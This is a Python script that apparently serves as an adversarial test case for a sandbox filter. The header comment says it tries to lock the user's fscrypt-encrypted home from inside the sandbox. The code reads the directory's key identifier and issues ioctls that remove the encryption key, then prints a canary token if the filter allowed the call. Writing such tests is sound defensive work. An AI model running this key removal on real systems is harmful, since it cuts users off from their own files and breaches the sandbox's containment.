# technique: lock the user's encrypted home from inside: the project lies in an fscrypt-encrypted directory, whose key identifier any descriptor in it tells (FS_IOC_GET_ENCRYPTION_POLICY_EX); FS_IOC_REMOVE_ENCRYPTION_KEY with it drops the user's claim on the filesystem-level key, and every process of the user outside the sandbox loses the directory (names turn to ciphertext, new files fail with ENOKEY); on a filesystem without encryption it answers EOPNOTSUPP, which still shows the filter passed it
# needs: token
# test/adversarial/manual/fscrypt-world.sh runs this case on a loop-mounted
# ext4 image with the encrypt feature, the project inside an encrypted home.
import fcntl, os, struct
env = dict(l.strip().split("=", 1) for l in open(".adv/world.env") if "=" in l)
token = "CANARY-REACHED-" + env["TAG"]
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
FS_IOC_GET_ENCRYPTION_POLICY_EX = 0xc0096616
FS_IOC_REMOVE_ENCRYPTION_KEY = 0xc0406618
FS_IOC_REMOVE_ENCRYPTION_KEY_ALL_USERS = 0xc0406619
ident = bytes(16)
try:
    buf = bytearray(struct.pack("Q", 24) + bytes(24))  # policy_size, then the policy
    fcntl.ioctl(fd, FS_IOC_GET_ENCRYPTION_POLICY_EX, buf)
    ident = bytes(buf[8 + 8: 8 + 24])
    print("project encrypted, key identifier", ident.hex())
except OSError as e:
    print("GET_ENCRYPTION_POLICY_EX:", e.strerror)
reached = False
for name, cmd in (("REMOVE_ENCRYPTION_KEY", FS_IOC_REMOVE_ENCRYPTION_KEY), ("REMOVE_ENCRYPTION_KEY_ALL_USERS", FS_IOC_REMOVE_ENCRYPTION_KEY_ALL_USERS)):
    arg = bytearray(struct.pack("II", 2, 0) + ident + bytes(16) + bytes(24))  # key_spec v2 identifier, flags, reserved
    try:
        fcntl.ioctl(fd, cmd, arg)
        print(name, "accepted: status flags", struct.unpack_from("I", arg, 40)[0])
        reached = True
    except OSError as e:
        print(name, e.strerror)
        reached = reached or e.errno != 1
if reached:
    print("the filter passed the key removal", token)
